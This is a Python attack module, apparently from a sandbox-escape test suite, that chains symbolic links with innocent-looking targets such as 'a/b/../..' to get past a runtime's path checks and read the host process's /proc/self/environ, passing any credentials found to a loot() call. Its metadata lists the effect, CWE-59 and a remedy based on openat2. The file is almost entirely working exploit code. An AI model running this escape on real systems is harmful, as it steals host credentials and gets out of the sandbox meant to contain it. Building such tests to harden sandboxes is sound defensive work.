# SPDX-License-Identifier: MIT
"""Goal:  a file of the host's that lies outside the folder which the guest may write to.
Means: links that lead up, one through the other. Each has a target that looks as if it stayed inside
       (`a/b/../..` where `a/b` is a link to `.`), so a runtime that checks the words of a target lets
       it pass, and the kernel then follows all of them.
"""

import os

from attack import DONE, attempting, credential, denied, loot

DEPTH = 12


def run(brief):
    attempting()
    top = f"/tmp/{brief.name}"
    why = None
    try:
        os.makedirs(f"{top}/a")
        os.symlink(".", f"{top}/a/b")
        above = "a/b/../.."
        for step in range(1, DEPTH):
            os.symlink(above, f"{top}/u{step}")
            try:
                with open(f"{top}/u{step}/proc/self/environ", "rb") as file:
                    found = credential(file.read())
            except OSError as error:
                found, why = None, error
            if found:
                loot(found)
                return DONE
            above = f"u{step}/.."
    except OSError as error:
        why = error
    return denied("a chain of links", why)


ATTACK = {
    "effect": "the credentials of the process around the guest leave in the student's output",
    "means": "symbolic links that lead up through one another, to /proc/self/environ",
    "oracle": "secret:environ",
    "attack_id": "T1083, CWE-59",
    "remedy": "no links for the guest, or openat2 with RESOLVE_NO_SYMLINKS",
    "refs": ["symlink(7)", "openat2(2)"],
    "run": run,
}
